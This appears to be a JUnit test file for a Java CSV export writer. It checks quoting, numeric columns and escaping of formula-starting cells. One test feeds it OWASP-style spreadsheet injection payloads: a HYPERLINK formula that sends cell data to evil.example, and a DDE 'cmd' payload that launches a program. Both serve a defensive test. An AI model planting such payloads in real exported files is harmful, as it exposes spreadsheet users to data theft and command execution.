package io.atrium.platform.web;

import static io.atrium.platform.web.CsvWriter.Kind.NUMBER;
import static io.atrium.platform.web.CsvWriter.Kind.TEXT;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.sql.Types;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvWriterTests {

    @ParameterizedTest
    @ValueSource(strings = {"=", "+", "-", "@", "\t", "\r"})
    void aTextCellStartingWithAFormulaCharacterIsQuotedWithALeadingApostrophe(String first) {
        assertThat(CsvWriter.cell(first + "1+1", TEXT)).isEqualTo("\"'" + first + "1+1\"");
        assertThat(CsvWriter.cell(first, TEXT)).isEqualTo("\"'" + first + "\"");
    }

    @Test
    void theOwaspExamplesComeOutAsText() {
        assertThat(CsvWriter.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", TEXT))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
        assertThat(CsvWriter.cell("@SUM(1)", TEXT)).isEqualTo("\"'@SUM(1)\"");
        assertThat(CsvWriter.cell("+cmd|' /C calc'!A0", TEXT)).isEqualTo("\"'+cmd|' /C calc'!A0\"");
        assertThat(CsvWriter.cell("-2+3", TEXT)).isEqualTo("\"'-2+3\"");
    }

    @Test
    void harmlessTextIsLeftAloneAndFormulaCharactersLaterInACellAreHarmless() {
        assertThat(CsvWriter.cell("Acme", TEXT)).isEqualTo("Acme");
        assertThat(CsvWriter.cell("a=b+c-d@e", TEXT)).isEqualTo("a=b+c-d@e");
        assertThat(CsvWriter.cell(" =1+1", TEXT)).isEqualTo(" =1+1");
        assertThat(CsvWriter.cell("", TEXT)).isEmpty();
        assertThat(CsvWriter.cell(null, TEXT)).isEmpty();
        assertThat(CsvWriter.cell(null, NUMBER)).isEmpty();
    }

    @Test
    void rfc4180QuotesCellsWithCommasQuotesAndLineBreaks() {
        assertThat(CsvWriter.cell("Grace, \"Amazing\"", TEXT)).isEqualTo("\"Grace, \"\"Amazing\"\"\"");
        assertThat(CsvWriter.cell("two\nlines", TEXT)).isEqualTo("\"two\nlines\"");
        assertThat(CsvWriter.cell("two\r\nlines", TEXT)).isEqualTo("\"two\r\nlines\"");
        assertThat(CsvWriter.cell("cr\rinside", TEXT)).isEqualTo("\"cr\rinside\"");
        assertThat(CsvWriter.cell("\"", TEXT)).isEqualTo("\"\"\"\"");
        assertThat(CsvWriter.cell("tab\tinside", TEXT)).isEqualTo("tab\tinside");
    }

    @Test
    void numbersInANumberColumnStayNumbersEvenWhenNegative() {
        assertThat(CsvWriter.cell(new BigDecimal("-12.50"), NUMBER)).isEqualTo("-12.50");
        assertThat(CsvWriter.cell("-12.50", NUMBER))
                .as("money rendered as exact text")
                .isEqualTo("-12.50");
        assertThat(CsvWriter.cell(new BigDecimal("1E+3"), NUMBER)).isEqualTo("1000");
        assertThat(CsvWriter.cell(-3L, NUMBER)).isEqualTo("-3");
        assertThat(CsvWriter.cell(42, NUMBER)).isEqualTo("42");
        assertThat(CsvWriter.cell(-0.25d, NUMBER)).isEqualTo("-0.25");
        assertThat(CsvWriter.cell(1.0e20d, NUMBER)).isEqualTo("1.0E20");
    }

    @Test
    void anythingButAPlainNumberInANumberColumnIsTreatedAsText() {
        assertThat(CsvWriter.cell("-1+1", NUMBER)).isEqualTo("\"'-1+1\"");
        assertThat(CsvWriter.cell("=1", NUMBER)).isEqualTo("\"'=1\"");
        assertThat(CsvWriter.cell(Double.NEGATIVE_INFINITY, NUMBER)).isEqualTo("\"'-Infinity\"");
        assertThat(CsvWriter.cell("1,5", NUMBER)).isEqualTo("\"1,5\"");
    }

    @Test
    void aNegativeNumberInATextColumnIsText() {
        assertThat(CsvWriter.cell(-12, TEXT)).isEqualTo("\"'-12\"");
    }

    @Test
    void otherValuesAreWrittenAsTheirTextForm() {
        UUID id = UUID.fromString("0190b5a4-0000-7000-8000-000000000001");
        assertThat(CsvWriter.cell(id, TEXT)).isEqualTo(id.toString());
        assertThat(CsvWriter.cell(Instant.parse("2026-01-02T03:04:05Z"), TEXT)).isEqualTo("2026-01-02T03:04:05Z");
        assertThat(CsvWriter.cell(LocalDate.parse("2026-01-02"), TEXT)).isEqualTo("2026-01-02");
        assertThat(CsvWriter.cell(true, TEXT)).isEqualTo("true");
    }

    @Test
    void writesAHeaderAndRowsWithCrlfLineEnds() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter csv = CsvWriter.start(
                out,
                List.of(
                        new CsvWriter.Column("title", TEXT),
                        new CsvWriter.Column("amount", NUMBER),
                        new CsvWriter.Column("=header", TEXT)));
        csv.row(List.of("=1+1", "-12.50", "plain"));
        csv.row(Arrays.asList("multi\r\nline, \"quoted\"", null, "@SUM(1)"));
        csv.flush();
        assertThat(out.toString())
                .isEqualTo("title,amount,\"'=header\"\r\n"
                        + "\"'=1+1\",-12.50,plain\r\n"
                        + "\"multi\r\nline, \"\"quoted\"\"\",,\"'@SUM(1)\"\r\n");
    }

    @Test
    void aRowMustHaveAValuePerColumn() throws IOException {
        CsvWriter csv = CsvWriter.start(new StringWriter(), List.of(new CsvWriter.Column("a", TEXT)));
        assertThatThrownBy(() -> csv.row(List.of("x", "y"))).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void numericSqlTypesAreNumberColumns() {
        for (int type : new int[] {Types.NUMERIC, Types.DECIMAL, Types.BIGINT, Types.INTEGER, Types.DOUBLE}) {
            assertThat(CsvWriter.Kind.ofSqlType(type)).isEqualTo(NUMBER);
        }
        for (int type : new int[] {Types.VARCHAR, Types.OTHER, Types.TIMESTAMP, Types.DATE, Types.BOOLEAN}) {
            assertThat(CsvWriter.Kind.ofSqlType(type)).isEqualTo(TEXT);
        }
    }

    @Test
    void csvIsAskedForByFormatOrByAnAcceptOfOnlyCsv() {
        assertThat(CsvWriter.requested("csv", null)).isTrue();
        assertThat(CsvWriter.requested("json", "text/csv")).isFalse();
        assertThat(CsvWriter.requested(null, "text/csv")).isTrue();
        assertThat(CsvWriter.requested(null, "text/csv, application/json")).isFalse();
        assertThat(CsvWriter.requested(null, null)).isFalse();
        assertThatThrownBy(() -> CsvWriter.requested("xml", null))
                .isInstanceOfSatisfying(
                        ProblemException.class, p -> assertThat(p.getMessage()).startsWith("format:"));
    }
}
